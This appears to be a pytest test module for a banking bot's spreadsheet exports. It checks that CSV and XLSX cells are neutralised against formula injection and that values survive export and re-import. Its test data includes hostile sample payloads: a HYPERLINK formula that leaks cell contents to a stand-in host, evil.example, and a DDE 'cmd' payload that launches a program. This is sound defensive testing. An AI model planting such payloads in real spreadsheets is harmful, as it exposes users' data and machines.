"""Issue 13 item 3: exports carry no live formula, and export → import still gives back the
original values, hostile ones included, on SQLite and PostgreSQL.

Reproduction: a customer named `=HYPERLINK("http://evil.example/?x="&A1,"点我")` with phone
`=1+2` was written unchanged to CSV and as a real formula cell (`<f>HYPERLINK(…)</f>`) to XLSX.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.engine import Engine

from bot.exports.cells import QUOTE, TRIGGERS, neutralise, restore
from bot.imports import KINDS, export_kind, import_file
from bot.testing import Harness
from tests.imports.helpers import dump

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HOSTILE = [
    HYPERLINK, "=1+2", "+86 138", "-5", "@SUM(A1:A9)", "'=1+2", "''", "'", "'正常", "=", "-", "a\t=b",
    "=cmd|' /C calc'!A0", "+", "@", "''=x", "王'芳", "-1,=2",
]
"""Each one stored as a text value somewhere the exports write; every one is import-stable
(no leading/trailing blanks: the import strips cells, so those could not round-trip anyway)."""


def _plant(engine: Engine) -> None:
    """Hostile text in every text column of the demo bank that an export writes."""
    n = len(HOSTILE)
    with engine.begin() as conn:
        ids = [r[0] for r in conn.execute(text("SELECT id FROM customer ORDER BY id LIMIT :n"), {"n": n})]
        for i, cid in enumerate(ids):
            value, other = HOSTILE[i], HOSTILE[(i + 1) % n]
            conn.execute(text("UPDATE customer SET name = :v, phone = :p, id_no = :o, industry = :o WHERE id = :c"),
                         {"v": value, "p": other[:20], "o": other[:20], "c": cid})
        holdings = [r[0] for r in conn.execute(text("SELECT id FROM holding ORDER BY id LIMIT :n"), {"n": n})]
        for i, hid in enumerate(holdings):
            conn.execute(text("UPDATE holding SET product_name = :v WHERE id = :h"), {"v": HOSTILE[i], "h": hid})
        staff = [r[0] for r in conn.execute(text("SELECT id FROM staff ORDER BY id LIMIT 3"))]
        for i, sid in enumerate(staff):
            conn.execute(text("UPDATE staff SET name = :v WHERE id = :s"), {"v": HOSTILE[i][:32], "s": sid})
        conn.execute(text("UPDATE org SET name = :v WHERE id = (SELECT min(id) FROM org)"), {"v": "=1+2"})


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _xlsx_formulas(path: Path) -> list[str]:
    """Formula elements in the workbook's sheets, and cells openpyxl reads as formulas."""
    with zipfile.ZipFile(path) as z:
        found = [m for name in z.namelist() if name.startswith("xl/worksheets/")
                 for m in re.findall(r"<(?:\w+:)?f[ >][^<]*", z.read(name).decode("utf-8"))]
    book = load_workbook(path)  # not read-only: data_type of every cell
    found += [str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return found


def test_hostile_values_round_trip_and_no_cell_is_live(bank: Harness, twin: Engine, tmp_path: Path) -> None:
    _plant(bank.engine)
    before = dump(bank.engine)
    for fmt in ("csv", "xlsx"):
        for kind in KINDS.values():
            out = tmp_path / fmt / f"{kind.name}.{fmt}"
            export_kind(bank.engine, kind, out)
            if fmt == "csv":
                live = [c for c in _csv_cells(out) if c[:1] in TRIGGERS]
                assert live == [], (kind.name, live[:5])
            else:
                assert _xlsx_formulas(out) == [], kind.name
            result = import_file(twin, kind, out)
            assert result.rejected == 0, (kind.name, fmt, result.errors[:3])
        assert dump(twin) == before, fmt
    customers = _csv_cells(tmp_path / "csv" / "customers.csv")
    assert QUOTE + HYPERLINK in customers and "'=1+2" in customers and "''=1+2" in customers
    book = load_workbook(tmp_path / "xlsx" / "customers.xlsx")
    names = {c.value: c.data_type for row in book.active.iter_rows(min_row=2) for c in row[2:3]}
    assert names[QUOTE + HYPERLINK] == "s"


def test_numbers_stay_numbers(rmbot: Harness, tmp_path: Path) -> None:
    """Money is neutralised never: a CSV keeps 12345.67, an XLSX a number cell."""
    out = tmp_path / "holdings.xlsx"
    export_kind(rmbot.engine, KINDS["holdings"], out)
    row = next(load_workbook(out).active.iter_rows(min_row=2, max_row=2))
    amount = row[[c.name for c in KINDS["holdings"].columns].index("amount")]
    assert amount.data_type == "n" and isinstance(amount.value, (int, float))
    csv_out = tmp_path / "holdings.csv"
    export_kind(rmbot.engine, KINDS["holdings"], csv_out)
    first = next(iter(list(csv.reader(csv_out.open(encoding="utf-8")))[1:]))
    assert re.fullmatch(r"\d+\.\d\d", first[4])


def test_the_error_report_shows_rejected_cells_as_text(rmbot: Harness, tmp_path: Path) -> None:
    from bot.imports import ErrorReport, read_report

    src = tmp_path / "customers.csv"
    src.write_text("id,kind,name,rm_id,org_id,opened_on\nC9999999,individual,x,RM001,SB01,=1+2\n", encoding="utf-8")
    report = ErrorReport(tmp_path / "errors.csv")
    import_file(rmbot.engine, KINDS["customers"], src, report=report)
    report.close()
    assert not any(c[:1] in TRIGGERS for c in _csv_cells(report.path) if c)
    assert [e.value for e in read_report(report.path)] == ["=1+2"]


_TEXT = st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "张", " ", ",", '"']), max_size=8)


@settings(max_examples=300, deadline=None)
@given(_TEXT)
def test_neutralise_is_undone_exactly_and_never_starts_with_a_trigger(value: str) -> None:
    cell = neutralise(value)
    assert cell[:1] not in TRIGGERS
    assert restore(cell) == value


@settings(max_examples=200, deadline=None)
@given(_TEXT)
def test_a_cell_the_export_cannot_have_written_is_read_as_it_is(value: str) -> None:
    """restore only ever removes the quote neutralise adds; any other cell is left alone."""
    if not (value[:1] == QUOTE and value[1:2] and (value[1] in TRIGGERS or value[1] == QUOTE)):
        assert restore(value) == value


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_every_file_writer_goes_through_the_cell_layer(suffix: str) -> None:
    """By construction: outside bot/exports/cells.py no code builds a CSV writer or a workbook."""
    root = Path(__file__).resolve().parents[2]
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")
    offenders = [str(p.relative_to(root)) for d in ("bot", "commands", "rules") for p in (root / d).rglob("*.py")
                 if p.name != "cells.py" and pattern.search(p.read_text(encoding="utf-8"))]
    assert offenders == [], f"write {suffix} files through bot.exports.cells.open_sheet: {offenders}"
